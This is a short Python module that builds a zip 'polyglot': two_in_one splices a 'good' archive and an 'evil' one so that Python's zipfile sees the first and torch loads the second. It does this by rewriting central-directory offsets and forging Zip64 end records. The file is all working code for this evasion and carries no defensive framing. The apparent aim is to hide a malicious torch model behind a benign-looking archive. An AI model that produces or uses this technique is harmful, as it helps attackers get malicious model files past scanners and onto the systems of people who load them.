"""Zip archives that are not what they look like."""

import struct


def end_of_directory(file: bytes) -> tuple[int, int, int]:
    """Where the directory of torch's archive begins, its length, and its number of members."""
    assert file[-98:-94] == b"PK\x06\x06"
    number, length, begin = struct.unpack("<QQQ", file[-66:-42])
    return begin, length, number


def two_in_one(good: bytes, evil: bytes) -> bytes:
    """A file of which Python reads the one and torch the other.

    Python reads the directory before the locator, torch the one that the locator names.
    """
    begin, length, _ = end_of_directory(evil)
    file = evil[:-42]  # its members, its directory and the end of it
    shift = len(file)
    own_begin, own_length, own_number = end_of_directory(good)
    directory, place = bytearray(good[own_begin : own_begin + own_length]), 0
    while place < own_length:
        (offset,) = struct.unpack_from("<I", directory, place + 42)
        struct.pack_into("<I", directory, place + 42, offset + shift)
        place += 46 + sum(struct.unpack_from("<HHH", directory, place + 28))
    file += good[:own_begin] + directory
    end = struct.pack("<QHHIIQQ", 44, 45, 45, 0, 0, own_number, own_number)
    file += b"PK\x06\x06" + end + struct.pack("<QQ", own_length, shift + own_begin)
    file += b"PK\x06\x07" + struct.pack("<IQI", 0, begin + length, 1)
    return file + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, own_number, own_number, 0xFFFFFFFF, 0xFFFFFFFF, 0)
